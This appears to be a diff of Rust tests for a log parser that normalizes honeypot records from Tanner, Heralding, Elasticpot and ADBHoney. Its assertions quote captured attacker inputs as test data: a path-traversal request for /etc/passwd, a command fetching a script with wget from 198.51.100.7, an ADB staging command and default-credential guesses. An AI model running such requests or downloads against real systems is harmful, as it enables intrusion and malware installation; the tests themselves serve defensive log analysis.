@@ -134,6 +134,10 @@ fn auto_detects_every_fixture() {
         ("generic.jsonl", Format::Jsonl),
         ("zeek.log", Format::Zeek),
         ("zeek.json", Format::Zeek),
+        ("tanner.json", Format::Tanner),
+        ("heralding.json", Format::Heralding),
+        ("elasticpot.json", Format::Elasticpot),
+        ("adbhoney.json", Format::Adbhoney),
     ] {
         let auto = parse(Format::Auto, name);
         assert_eq!(auto.format, format, "{name}");
@@ -349,5 +353,121 @@ fn zeek_headers_are_read_and_bad_records_say_why() {
     for ((line, reason), (want_line, want)) in reasons.iter().zip(expect) {
         assert_eq!(*line, want_line, "{reason}");
         assert!(reason.contains(want), "line {line}: {reason:?} lacks {want:?}");
+    }
+}
+
+#[test]
+fn tpot_tanner_fixture() {
+    let out = parse(Format::Tanner, "tanner.json");
+    assert_eq!(out.naive_utc, 3, "every Tanner time lacks an offset");
+    let e = &out.events;
+    assert!(e.iter().all(|e| e.kind == EventKind::HttpRequest));
+    assert_eq!(e[0].timestamp.to_string(), "2026-11-30T08:15:01.25Z");
+    assert_eq!(e[0].src_ip.to_string(), "203.0.113.15");
+    assert_eq!(
+        (e[0].method.as_deref(), e[0].url.as_deref(), e[0].status),
+        (Some("GET"), Some("/index.php?page=../../etc/passwd"), Some(200))
+    );
+    assert_eq!(
+        (e[0].client.as_deref(), e[0].dst_host.as_deref()),
+        (Some("curl/7.64.0"), Some("192.0.2.80"))
+    );
+    assert_eq!(
+        (e[0].signature.as_deref(), e[0].category.as_deref()),
+        (Some("lfi"), Some("tanner type 2"))
+    );
+    assert_eq!(e[0].session.as_deref(), Some("a1b2c3d4-0000-4000-8000-00000000000a"));
+    assert_eq!((e[1].method.as_deref(), e[1].client.as_deref()), (Some("GET"), None));
+    // Python's escape of an undecodable byte is read as U+FFFD, not rejected.
+    assert_eq!(e[2].url.as_deref(), Some("/a\u{fffd}b"));
+}
+
+#[test]
+fn tpot_heralding_fixture() {
+    use EventKind::*;
+    let out = parse(Format::Heralding, "heralding.json");
+    // A session: connect, one failed login per attempt, close (only when it ended).
+    assert_eq!(
+        kinds(&out),
+        [SessionConnect, LoginFailed, LoginFailed, SessionClosed, SessionConnect, LoginFailed]
+    );
+    let e = &out.events;
+    assert_eq!(out.naive_utc, 6);
+    assert_eq!(e[0].timestamp.to_string(), "2026-11-30T09:00:00.5Z");
+    assert_eq!((e[0].app_proto, e[0].dst_port), (AppProto::Other, Some(5900)));
+    assert_eq!((e[1].username.as_deref(), e[1].password.as_deref()), (None, Some("123456")));
+    assert_eq!(e[2].timestamp.to_string(), "2026-11-30T09:00:02Z");
+    assert_eq!(
+        (e[3].timestamp.to_string().as_str(), e[3].duration),
+        ("2026-11-30T09:00:03.5Z", Some(3.0))
+    );
+    assert!(e[..4].iter().all(|x| x.session == e[0].session));
+    assert_eq!(
+        (e[5].username.as_deref(), e[5].password.as_deref()),
+        (Some("admin"), Some("admin"))
+    );
+}
+
+#[test]
+fn tpot_elasticpot_and_adbhoney_fixtures() {
+    use EventKind::*;
+    let out = parse(Format::Elasticpot, "elasticpot.json");
+    let e = &out.events;
+    assert_eq!(
+        (e[0].method.as_deref(), e[0].url.as_deref()),
+        (Some("POST"), Some("/_search?source"))
+    );
+    assert!(e[0].command.as_deref().unwrap().contains("wget http://198.51.100.7/x.sh"));
+    assert_eq!((e[0].dst_port, e[1].command.as_deref()), (Some(9200), None));
+    let out = parse(Format::Adbhoney, "adbhoney.json");
+    assert_eq!(kinds(&out), [SessionConnect, Command, FileUpload, SessionClosed]);
+    assert_eq!(out.naive_utc, 0);
+    let e = &out.events;
+    assert_eq!(e[0].dst_port, Some(5555));
+    assert!(e[1].command.as_deref().unwrap().starts_with("cd /data/local/tmp"));
+    assert_eq!(
+        (e[2].url.as_deref(), e[2].signature.as_deref()),
+        (Some("ufo.apk"), Some("0f343b0931126a20f133d67c2b018a3b"))
+    );
+    assert_eq!(e[3].duration, Some(3.1));
+}
+
+#[test]
+fn tpot_bad_records_say_why() {
+    let cases = [
+        (
+            Format::Tanner,
+            r#"{"method":"GET","path":"/","peer":{"ip":"x"},"timestamp":"2026-11-30T08:00:00"}"#,
+            "invalid peer.ip \"x\"",
+        ),
+        (
+            Format::Tanner,
+            r#"{"method":"GET","path":"/","peer":{"ip":"192.0.2.1"},"timestamp":"noon"}"#,
+            "invalid timestamp \"noon\"",
+        ),
+        (
+            Format::Heralding,
+            r#"{"timestamp":"2026-11-30 09:00:00","source_ip":"192.0.2.1","auth_attempts":[{"timestamp":"later"}]}"#,
+            "auth_attempts[0]: invalid timestamp",
+        ),
+        (
+            Format::Elasticpot,
+            r#"{"timestamp":"2026-11-30T10:00:00","src_ip":"192.0.2.1"}"#,
+            "missing honeypot",
+        ),
+        (
+            Format::Adbhoney,
+            r#"{"timestamp":"2026-11-30T10:00:00Z","src_ip":"192.0.2.1"}"#,
+            "missing eventid",
+        ),
+    ];
+    for (format, line, want) in cases {
+        let out = parse_str(format, line);
+        assert!(out.events.is_empty(), "{format}: {line}");
+        assert!(
+            out.rejected[0].reason.contains(want),
+            "{format}: {:?} lacks {want:?}",
+            out.rejected[0].reason
+        );
     }
 }
